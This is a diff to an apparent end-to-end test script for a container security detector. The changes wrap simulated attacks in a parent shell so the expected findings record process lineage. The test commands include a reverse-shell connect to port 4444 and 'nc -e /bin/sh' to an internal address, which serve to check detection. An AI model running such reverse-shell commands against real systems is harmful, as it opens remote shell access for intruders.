@@ -83,10 +83,12 @@ scenarios() {
 ' >>"$out" 2>&1 &
 	serve=$!
 	wait_progress grep -q listening "$out"
+	# (each attack from a shell in the container, so that its finding's lineage has one)
 	from=$(mark)
-	ctr "$C_ID" /tmp/.rs connect 127.0.0.1 4444
+	ctr "$C_ID" /bin/sh -c '/tmp/.rs connect 127.0.0.1 4444; true'
 	expect_finding "$3: reverse_shell_ipv4" "$from" \
 		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/dash\n' "$REVERSE"
+		printf 'processes.1.binary.path\t/usr/bin/dash\nprocesses.1.args.1\t-c\n'
 		container_fields)" \
 		"category=$(q "$REVERSE")" "containers.0.id=$C_ID"
 	check_event "$3: the shell's stdin is the socket, its peer 127.0.0.1:4444" \
@@ -125,10 +127,11 @@ scenarios() {
 	# netcat -e: any program named nc with the option (here a harmless one, copied in)
 	ctr_copy_in "$C_ID" "$E2E_DATA/hello" /tmp/nc
 	from=$(mark)
-	ctr "$C_ID" /tmp/nc -e /bin/sh 10.0.0.9 4444 >/dev/null
+	ctr "$C_ID" /bin/sh -c '/tmp/nc -e /bin/sh 10.0.0.9 4444 >/dev/null; true'
 	expect_finding "$3: netcat_exec" "$from" \
 		"$(printf 'category\t%s\nprocesses.0.binary.path\t/tmp/nc\n' "$NETCAT"
 		args_fields /tmp/nc -e /bin/sh 10.0.0.9 4444
+		printf 'processes.1.binary.path\t/usr/bin/dash\n'
 		container_fields)" \
 		"category=$(q "$NETCAT")" "containers.0.id=$C_ID"
 
@@ -156,11 +159,14 @@ scenarios() {
 
 	# an ELF header in base64 on a command line
 	from=$(mark)
-	ctr "$C_ID" /bin/sh -c "echo $ELF_B64 >/dev/null"
+	ctr "$C_ID" /bin/sh -c "/bin/sh -c 'echo $ELF_B64 >/dev/null'; true"
+	# (both shells' command lines carry it: the inner one's finding names the outer as parent)
 	expect_finding "$3: base64_elf_on_the_command_line" "$from" \
 		"$(printf 'category\t%s\nprocesses.0.binary.path\t/usr/bin/dash\n' "$B64ELF"
+		printf 'processes.0.args.2\techo %s >/dev/null\n' "$ELF_B64"
+		printf 'processes.1.binary.path\t/usr/bin/dash\n'
 		container_fields)" \
-		"category=$(q "$B64ELF")" "containers.0.id=$C_ID"
+		"category=$(q "$B64ELF")" "containers.0.id=$C_ID" "processes.1.binary.path=/usr/bin/dash"
 
 	# a shell started by a program that is not one (an application shelling out), with lineage
 	from=$(mark)
